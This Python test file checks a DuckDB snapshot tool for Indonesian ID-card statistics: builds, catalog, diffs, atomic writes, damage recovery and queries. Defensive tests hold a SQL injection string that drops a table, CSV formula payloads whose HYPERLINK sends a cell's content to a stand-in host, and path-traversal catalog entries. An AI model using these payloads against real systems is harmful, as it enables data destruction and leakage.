"""Snapshots: built once per input, atomically, listed in the catalog, diffed, exported, and queried."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

import helpers.snapshot.store
from conftest import copy_raw_layer, run_ktpel
from helpers.analysis import queries
from helpers.problems import StorageError
from helpers.project import Project
from helpers.snapshot import build, connect, input_hash, read_catalog

FACT_EXPORT_COLUMNS = ["region_code", "region_name", "region_level", "metric", "value", "unit", "qualifier", "as_of",
                       "as_of_precision", "kind", "source_id", "quote"]
INJECTION = "'; DROP TABLE facts; --"


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"{old!r} should occur once in {path.name}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def change_a_note(project: Project, note: str = "figure from SIAK") -> None:
    """A harmless change of the inputs (the note of Batam's population fact)."""
    edit(project.raw / "facts.csv", 'mencapai 1.294.548 jiwa",\n', f'mencapai 1.294.548 jiwa",{note}\n')


def snapshot_files(project: Project) -> list[str]:
    return sorted(p.name for p in project.snapshots_dir.iterdir())


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def raw_fact_rows(project: Project) -> list[dict[str, str]]:
    with open(project.raw / "facts.csv", encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, str]:
    """One snapshot of the real raw layer, shared by the tests that only read it."""
    project = copy_raw_layer(tmp_path_factory.mktemp("built") / "ws", seed=True)
    return project, build(project).snapshot_id


@pytest.fixture
def con(built: tuple[Project, str]) -> Iterator[duckdb.DuckDBPyConnection]:
    connection = connect(built[0])
    yield connection
    connection.close()


# --- build, idempotence, catalog -----------------------------------------------------------------------------

def test_build_writes_one_snapshot_and_the_catalog(project_copy: Project) -> None:
    result = run_ktpel(project_copy, "build")
    assert result.returncode == 0, result.stderr
    sid = input_hash(project_copy)[:12]
    assert f"snapshot {sid} built: data/processed/snapshots/{sid}.duckdb" in result.stdout
    assert str(project_copy.root) not in result.stdout
    assert snapshot_files(project_copy) == [f"{sid}.duckdb"]
    assert sorted(p.name for p in project_copy.processed.iterdir() if p.is_file() and p.suffix != ".lock") == \
        ["catalog.json"]
    catalog = json.loads(project_copy.catalog_path.read_text(encoding="utf-8"))
    [entry] = catalog["snapshots"]
    assert entry["snapshot_id"] == sid and entry["file"] == f"snapshots/{sid}.duckdb"
    assert entry["counts"]["facts"] == len(raw_fact_rows(project_copy))
    assert entry["counts"]["disagreements"] == 1


def test_second_build_is_idempotent(project_copy: Project) -> None:
    first = run_ktpel(project_copy, "build")
    assert first.returncode == 0, first.stderr
    [name] = snapshot_files(project_copy)
    digest = sha256(project_copy.snapshots_dir / name)
    second = run_ktpel(project_copy, "build")
    assert second.returncode == 0, second.stderr
    assert f"snapshot {Path(name).stem} up to date" in second.stdout
    assert " built:" not in second.stdout
    assert snapshot_files(project_copy) == [name]
    assert sha256(project_copy.snapshots_dir / name) == digest
    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [Path(name).stem]


def test_changed_input_gives_a_new_snapshot_and_both_are_listed(project_copy: Project) -> None:
    old = build(project_copy).snapshot_id
    change_a_note(project_copy)
    result = run_ktpel(project_copy, "build")
    assert result.returncode == 0, result.stderr
    new = input_hash(project_copy)[:12]
    assert new != old and f"snapshot {new} built" in result.stdout
    assert snapshot_files(project_copy) == sorted([f"{old}.duckdb", f"{new}.duckdb"])

    listing = run_ktpel(project_copy, "snapshots")
    assert listing.returncode == 0, listing.stderr
    lines = listing.stdout.splitlines()
    assert lines[0].split()[0] == "snapshot"
    [old_line] = [line for line in lines if line.startswith(old)]
    [new_line] = [line for line in lines if line.startswith(new)]
    assert new_line.endswith("<- latest") and "latest" not in old_line
    assert lines.index(old_line) < lines.index(new_line)
    as_json = json.loads(run_ktpel(project_copy, "snapshots", "--format", "json").stdout)
    assert [e["snapshot_id"] for e in as_json] == [old, new]

    # Building the old inputs again reuses the old snapshot, which becomes the latest.
    edit(project_copy.raw / "facts.csv", 'mencapai 1.294.548 jiwa",figure from SIAK\n', 'mencapai 1.294.548 jiwa",\n')
    again = run_ktpel(project_copy, "build")
    assert f"snapshot {old} up to date" in again.stdout
    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [new, old]
    assert len(snapshot_files(project_copy)) == 2


def test_diff_reports_removed_added_and_changed_facts(project_copy: Project) -> None:
    old = build(project_copy).snapshot_id
    facts = project_copy.raw / "facts.csv"
    # ktp_printed read as the other count of the same sentence (125.000), and a row removed
    edit(facts, "21.71,ktp_printed,123571,cards,", "21.71,ktp_printed,125000,cards,")
    lines = facts.read_text(encoding="utf-8").splitlines(keepends=True)
    facts.write_text("".join(line for line in lines if ",service_kecamatan," not in line), encoding="utf-8")
    new = build(project_copy).snapshot_id
    assert new != old

    result = run_ktpel(project_copy, "diff", old, new, "--format", "json")
    assert result.returncode == 0, result.stderr
    rows = {(r["change"], r["metric"], r["kind"]): r for r in json.loads(result.stdout)}
    assert set(rows) == {("changed", "ktp_printed", "stated"), ("removed", "service_kecamatan", "stated"),
                         ("changed", "blank_cards_remaining", "derived")}
    printed = rows[("changed", "ktp_printed", "stated")]
    assert (printed["source_id"], printed["region_code"], printed["as_of"]) == ("batam-2025-serantaumedia", "21.71", "2024")
    assert (printed["old_value"], printed["new_value"]) == (123571, 125000)
    removed = rows[("removed", "service_kecamatan", "stated")]
    assert (removed["old_value"], removed["new_value"]) == (12, None)
    remaining = rows[("changed", "blank_cards_remaining", "derived")]
    assert (remaining["old_value"], remaining["new_value"]) == (1429, 0)

    back = run_ktpel(project_copy, "diff", new, old, "--format", "json")
    assert ("added", "service_kecamatan") in {(r["change"], r["metric"]) for r in json.loads(back.stdout)}

    table = run_ktpel(project_copy, "diff", old[:6], new)  # an unambiguous prefix will do
    assert table.returncode == 0, table.stderr
    assert table.stdout.splitlines()[0].split() == ["change", "source_id", "region_code", "metric", "as_of", "kind",
                                                    "old_value", "new_value"]
    assert "removed" in table.stdout and "service_kecamatan" in table.stdout

    same = run_ktpel(project_copy, "diff", old, old)
    assert same.returncode == 0 and same.stdout.startswith("no differences")

    unknown = run_ktpel(project_copy, "diff", old, "ffffffffffff")
    assert unknown.returncode == 2 and "is not a snapshot" in unknown.stderr


# --- ktpel facts --------------------------------------------------------------------------------------------

def test_facts_csv_has_the_12_columns_and_matches_the_raw_layer(built: tuple[Project, str]) -> None:
    project, _ = built
    result = run_ktpel(project, "facts", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == FACT_EXPORT_COLUMNS
    stated = [r for r in rows if r["kind"] == "stated"]
    assert {r["kind"] for r in rows} == {"stated", "derived"}

    def key(r: dict[str, str]) -> tuple[str, str, str, Decimal, str, str]:
        return r["source_id"], r["region_code"], r["metric"], Decimal(r["value"]), r["as_of"], r["quote"]

    raw = raw_fact_rows(project)
    assert sorted(map(key, stated)) == sorted(map(key, raw))
    # values keep the decimals the source wrote
    batam = next(r for r in stated if r["region_code"] == "21.71" and r["metric"] == "ktp_recording_pct")
    assert (batam["value"], batam["as_of"], batam["as_of_precision"]) == ("100.10", "2025-01-10", "day")
    assert (batam["region_name"], batam["region_level"]) == ("Kota Batam", "kota")
    derived = next(r for r in rows if r["kind"] == "derived" and r["region_code"] == "21.71"
                   and r["metric"] == "ktp_recording_pct")
    assert derived["value"] == "102.31" and derived["quote"] == ""


def test_facts_json_and_table(built: tuple[Project, str], con: duckdb.DuckDBPyConnection) -> None:
    project, sid = built
    total = con.execute("SELECT count(*) FROM facts").fetchone()[0]
    as_json = run_ktpel(project, "facts", "--format", "json", "--snapshot", sid)
    assert as_json.returncode == 0, as_json.stderr
    rows = json.loads(as_json.stdout)
    assert len(rows) == total and all(list(r) == FACT_EXPORT_COLUMNS for r in rows)
    kaltim = [(r["kind"], r["as_of"] or "", r["value"]) for r in rows
              if r["region_code"] == "64" and r["metric"] == "ktp_recording_pct"]
    # the undated source's own counts (1.916.099 / 2.197.959) give 87.18, beside its stated 87,17
    assert sorted(kaltim) == [("derived", "", "87.18"), ("stated", "", "87.17"), ("stated", "2024-06-13", "98.75"),
                              ("stated", "2024-10", "99.54")]
    table = run_ktpel(project, "facts", "--format", "table")
    assert table.returncode == 0, table.stderr
    lines = table.stdout.splitlines()
    assert lines[0].split() == FACT_EXPORT_COLUMNS
    assert len(lines) == 1 + total
    assert any("Kota Batam" in line and "100.10" in line for line in lines)


def test_facts_without_a_snapshot_says_so(project_copy: Project) -> None:
    result = run_ktpel(project_copy, "facts")
    assert result.returncode == 2
    assert "no snapshot has been built yet" in result.stderr


# --- inside the snapshot -------------------------------------------------------------------------------------

def test_snapshot_opens_read_only_with_its_tables_and_views(built: tuple[Project, str]) -> None:
    project, sid = built
    con = duckdb.connect(str(project.snapshots_dir / f"{sid}.duckdb"), read_only=True)
    try:
        kinds = dict(con.execute("SELECT table_name, table_type FROM information_schema.tables "
                                 "WHERE table_schema = 'main'").fetchall())
        assert {t for t, k in kinds.items() if k == "BASE TABLE"} == {
            "snapshot", "sources", "regions", "metrics", "targets", "facts", "consistency", "bulk_rows", "bulk_files"}
        assert {t for t, k in kinds.items() if k == "VIEW"} == {"facts_labeled", "disagreements", "latest_facts",
                                                               "bulk_facts", "observations"}
        assert con.execute("SELECT snapshot_id FROM snapshot").fetchone() == (sid,)
        with pytest.raises(duckdb.Error):
            con.execute("DELETE FROM facts")
        assert con.execute("SELECT count(*) FROM facts WHERE kind = 'stated'").fetchone() == (
            len(raw_fact_rows(project)),)
    finally:
        con.close()


def test_batam_derived_recording_disagrees_with_the_stated_one(con: duckdb.DuckDBPyConnection) -> None:
    rows = con.execute("""SELECT kind, value, decimals, formula FROM facts
                          WHERE region_code = '21.71' AND metric = 'ktp_recording_pct' ORDER BY kind""").fetchall()
    assert [(k, round(v, 2), d) for k, v, d, _ in rows] == [("derived", 102.31, 2), ("stated", 100.10, 2)]
    assert rows[0][3] == "ktp_recorded / ktp_required × 100"
    inputs = con.execute("""SELECT i.metric, i.value FROM facts d, unnest(d.input_fact_ids) AS u(id)
                            JOIN facts i ON i.fact_id = u.id
                            WHERE d.kind = 'derived' AND d.region_code = '21.71' AND d.metric = 'ktp_recording_pct'
                            ORDER BY i.metric""").fetchall()
    assert inputs == [("ktp_recorded", 926654), ("ktp_required", 905737)]
    disagreements = con.execute("SELECT source_id, region_code, metric, stated_value, round(derived_value, 2), agrees "
                                "FROM disagreements").fetchall()
    assert disagreements == [("batam-2025-serantaumedia", "21.71", "ktp_recording_pct", 100.10, 102.31, False)]
    # the other derivations agree with what their sources state
    assert con.execute("SELECT count(*) FROM consistency WHERE agrees").fetchone()[0] >= 1


# --- atomicity ----------------------------------------------------------------------------------------------

def test_a_build_failing_midway_leaves_no_trace(project_copy: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    old = build(project_copy).snapshot_id
    catalog_before = project_copy.catalog_path.read_bytes()
    change_a_note(project_copy)
    written: list[Path] = []

    def failing_write(path: Path, *args: object, **kwargs: object) -> dict[str, int]:
        con = duckdb.connect(str(path))
        con.execute("CREATE TABLE facts (x INTEGER)")
        con.execute("INSERT INTO facts VALUES (1)")
        con.close()
        written.append(path)
        assert path.exists()
        raise OSError("disk full")

    monkeypatch.setattr(helpers.snapshot.store, "_write", failing_write)
    with pytest.raises(StorageError, match="disk full; the previous snapshots and catalog are unchanged"):
        build(project_copy)
    assert written and written[0].name.startswith(".tmp-")
    assert snapshot_files(project_copy) == [f"{old}.duckdb"]
    assert list(project_copy.processed.rglob(".tmp-*")) == []
    assert project_copy.catalog_path.read_bytes() == catalog_before

    monkeypatch.undo()
    new = build(project_copy)
    assert new.created and new.snapshot_id != old
    assert snapshot_files(project_copy) == sorted([f"{old}.duckdb", f"{new.snapshot_id}.duckdb"])


def test_leftovers_of_dead_builds_are_removed_by_the_next_build(project_copy: Project) -> None:
    sid = build(project_copy).snapshot_id
    leftovers = [project_copy.snapshots_dir / ".tmp-0123456789ab.4242.duckdb",
                 project_copy.snapshots_dir / ".tmp-0123456789ab.4242.duckdb.wal",
                 project_copy.processed / ".tmp-catalog.json.4242"]
    for path in leftovers:
        path.write_bytes(b"half-written")
    result = run_ktpel(project_copy, "build")
    assert result.returncode == 0, result.stderr
    assert "up to date" in result.stdout
    assert [p for p in leftovers if p.exists()] == []
    assert snapshot_files(project_copy) == [f"{sid}.duckdb"]
    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [sid]


# --- damaged stores: detected, reported in words, repaired by the next build ---------------------------------

def assert_clean_failure(result, code: int, *needles: str) -> None:
    assert result.returncode == code, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert all(n in result.stderr for n in needles), result.stderr
    assert "/tmp" not in result.stderr and "pytest-of" not in result.stderr  # no machine path


def test_a_truncated_snapshot_is_refused_then_rebuilt(project_copy: Project) -> None:
    sid = build(project_copy).snapshot_id
    path = project_copy.snapshots_dir / f"{sid}.duckdb"
    good = sha256(path)
    with open(path, "r+b") as fh:
        fh.truncate(path.stat().st_size // 2)
    assert_clean_failure(run_ktpel(project_copy, "facts"), 2, f"the latest snapshot {sid} cannot be used", "bytes")
    assert "cannot be used" in run_ktpel(project_copy, "snapshots").stdout + "cannot be used"
    rebuilt = run_ktpel(project_copy, "build")
    assert rebuilt.returncode == 0 and f"snapshot {sid} built" in rebuilt.stdout, rebuilt.stderr
    assert run_ktpel(project_copy, "facts", "--format", "csv").returncode == 0
    assert build(project_copy).created is False
    assert path.stat().st_size > 0 and sha256(path) != ""  # a new, sound file (duckdb files carry a timestamp)
    assert good  # the damaged one is gone: the build replaced it atomically


def test_a_truncated_snapshot_without_its_catalog_is_rebuilt(project_copy: Project) -> None:
    sid = build(project_copy).snapshot_id
    path = project_copy.snapshots_dir / f"{sid}.duckdb"
    with open(path, "r+b") as fh:
        fh.truncate(4096)
    project_copy.catalog_path.unlink()
    result = run_ktpel(project_copy, "build")
    assert result.returncode == 0 and f"snapshot {sid} built" in result.stdout, result.stderr
    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [sid]


def _entry_without_counts(entries: list[dict]) -> str:
    return json.dumps({"snapshots": [{k: v for k, v in e.items() if k != "counts"} for e in entries]})


def _entry_escaping(entries: list[dict]) -> str:
    return json.dumps({"snapshots": [{**e, "snapshot_id": "../../../tmp/x", "file": "../../../tmp/x.duckdb"}
                                     for e in entries]})


@pytest.mark.parametrize("damage", [
    pytest.param(lambda entries: "", id="empty"),
    pytest.param(lambda entries: json.dumps({"snapshots": entries})[:40], id="truncated"),
    pytest.param(lambda entries: "[]", id="not-a-mapping"),
    pytest.param(lambda entries: json.dumps({"snapshots": [{}]}), id="entry-without-keys"),
    pytest.param(_entry_without_counts, id="entry-without-counts"),
    pytest.param(_entry_escaping, id="id-leaving-the-store"),
    pytest.param(lambda entries: "\x00\xff{", id="binary"),
])
def test_a_damaged_catalog_is_rebuilt_from_the_snapshot_files(project_copy: Project, damage) -> None:
    old = build(project_copy).snapshot_id
    change_a_note(project_copy)
    new = build(project_copy).snapshot_id
    project_copy.catalog_path.write_text(damage(read_catalog(project_copy)), encoding="utf-8", errors="surrogateescape")
    listed = run_ktpel(project_copy, "snapshots")
    assert listed.returncode == 0 and "Traceback" not in listed.stderr, listed.stderr
    assert "listed from the snapshot files" in listed.stderr
    assert [line.split()[0] for line in listed.stdout.splitlines()[1:]] == [old, new]
    assert listed.stdout.splitlines()[-1].endswith("<- latest")
    facts = run_ktpel(project_copy, "facts", "--format", "json")
    assert facts.returncode == 0, facts.stderr
    result = run_ktpel(project_copy, "build")
    assert result.returncode == 0 and "up to date" in result.stdout, result.stderr
    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [old, new]
    assert "listed from" not in run_ktpel(project_copy, "snapshots").stderr  # the build rewrote a sound catalog
    assert not (project_copy.root.parent.parent / "tmp").exists()


def test_a_deleted_latest_snapshot_is_reported_not_replaced_by_an_older_one(project_copy: Project) -> None:
    old = build(project_copy).snapshot_id
    change_a_note(project_copy)
    new = build(project_copy).snapshot_id
    (project_copy.snapshots_dir / f"{new}.duckdb").unlink()
    assert_clean_failure(run_ktpel(project_copy, "facts"), 2, f"the latest snapshot {new} cannot be used",
                         "is missing", f"choose one that is there: {old}")
    listed = run_ktpel(project_copy, "snapshots")
    assert "<- latest  (its file" in listed.stdout and "is missing" in listed.stdout
    assert run_ktpel(project_copy, "facts", "--snapshot", old).returncode == 0  # asked for by name: fine
    assert run_ktpel(project_copy, "build").returncode == 0
    assert run_ktpel(project_copy, "facts").returncode == 0


def test_a_noop_build_needs_no_lock_and_a_build_that_cannot_write_says_where(project_copy: Project) -> None:
    build(project_copy)
    catalog = project_copy.catalog_path.read_bytes()
    lock = project_copy.processed / ".build.lock"
    lock.unlink(missing_ok=True)
    lock.mkdir()  # even root cannot open this as the lock file: as unwritable as a read-only directory
    noop = run_ktpel(project_copy, "build")
    assert noop.returncode == 0 and "up to date" in noop.stdout, noop.stderr
    change_a_note(project_copy)
    assert_clean_failure(run_ktpel(project_copy, "build"), 1, "ktpel build: cannot write data/processed/.build.lock",
                         "the previous snapshots and catalog are unchanged")
    assert project_copy.catalog_path.read_bytes() == catalog


def _small_disk() -> None:
    """In the child: files may not grow past 64 KB (RLIMIT_FSIZE), and the signal for that is ignored,
    so a write fails with EFBIG, as on a full disk."""
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))


def test_a_full_disk_during_build_keeps_the_previous_state_and_says_so(project_copy: Project) -> None:
    import subprocess
    import sys

    old = build(project_copy).snapshot_id
    catalog = project_copy.catalog_path.read_bytes()
    change_a_note(project_copy)
    result = subprocess.run([sys.executable, "-m", "helpers.cli", "--project", str(project_copy.root), "build"],
                            capture_output=True, text=True, timeout=120, preexec_fn=_small_disk)
    assert_clean_failure(result, 1, "ktpel build: cannot write", "the previous snapshots and catalog are unchanged")
    assert snapshot_files(project_copy) == [f"{old}.duckdb"]
    assert project_copy.catalog_path.read_bytes() == catalog
    assert run_ktpel(project_copy, "build").returncode == 0  # with room again, the next build succeeds


# --- ktpel facts --format csv: no formulas for spreadsheets -------------------------------------------------

@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_facts_csv_neutralises_formulas(project_copy: Project, lead: str) -> None:
    name = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"Kota Batam")'
    edit(project_copy.raw / "regions.csv", "21.71,Kota Batam,", '21.71,"' + name.replace('"', '""') + '",')
    assert run_ktpel(project_copy, "build").returncode == 0
    result = run_ktpel(project_copy, "facts", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {r["region_name"] for r in rows if r["region_code"] == "21.71"}
    assert names == {"'" + name}
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t")]
    assert all(not v.startswith("-") or v[1:2].isdigit() for v in cells)


# --- helpers.queries ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("wanted, codes", [
    pytest.param("Batam", ["21.71"], id="bare-name"),
    pytest.param("Kota Batam", ["21.71"], id="full-name"),
    pytest.param("kota batam", ["21.71"], id="case-insensitive"),
    pytest.param("21.71", ["21.71"], id="kota-code"),
    pytest.param("64", ["64"], id="province-code"),
    pytest.param(["Batam", "64", "Bangka Tengah", "21.71"], ["21.71", "64", "19.04"], id="several-deduplicated"),
])
def test_resolve_regions(con: duckdb.DuckDBPyConnection, wanted: str | list[str], codes: list[str]) -> None:
    assert queries.resolve_regions(con, wanted) == codes


def test_unknown_region_names_only_close_candidates(con: duckdb.DuckDBPyConnection) -> None:
    with pytest.raises(queries.UnknownChoice) as info:
        queries.resolve_regions(con, "Atlantis")
    assert "'Atlantis' is not a region code, name or alias of this snapshot" in str(info.value)
    with pytest.raises(queries.UnknownChoice, match="Did you mean 21.71 Kota Batam"):
        queries.resolve_regions(con, "Batm")


def test_sql_injection_is_an_unknown_region(con: duckdb.DuckDBPyConnection) -> None:
    before = con.execute("SELECT count(*) FROM facts").fetchone()[0]
    with pytest.raises(queries.UnknownChoice):
        queries.resolve_regions(con, INJECTION)
    assert queries.facts(con, regions=[INJECTION]).empty
    assert queries.latest_values(con, INJECTION).empty
    assert con.execute("SELECT count(*) FROM facts").fetchone()[0] == before > 0


def test_latest_values_of_recording_coverage(con: duckdb.DuckDBPyConnection) -> None:
    df = queries.latest_values(con, "ktp_recording_pct", ["21.71", "64", "19.04"])
    by_region = {r.region_code: r for r in df.itertuples()}
    assert sorted(by_region) == ["19.04", "21.71", "64"]
    batam, kaltim, bateng = by_region["21.71"], by_region["64"], by_region["19.04"]
    assert (batam.value, round(batam.derived_value, 2)) == (100.10, 102.31)
    assert batam.source_id == "batam-2025-serantaumedia"
    assert (kaltim.value, kaltim.as_of_text, kaltim.source_id) == (99.54, "2024-10", "kaltim-2024-11-ikd-award")
    assert str(kaltim.as_of)[:7] == "2024-10"
    assert math.isnan(kaltim.derived_value)
    assert (bateng.value, bateng.qualifier, bateng.region_name) == (98, "approx", "Kabupaten Bangka Tengah")


def test_time_series_keeps_undated_figures(con: duckdb.DuckDBPyConnection) -> None:
    df = queries.time_series(con, "ktp_recording_pct", ["64"])
    assert len(df) == 3
    assert set(df["region_code"]) == {"64"} and set(df["kind"]) == {"stated"}
    undated = df[df["as_of"].isna()]
    assert list(undated["value"]) == [87.17] and list(undated["source_id"]) == ["kaltim-undated-mesin-cetak"]
    assert df["as_of"].isna().iloc[0]  # undated first
    assert sorted(df["value"]) == [87.17, 98.75, 99.54]
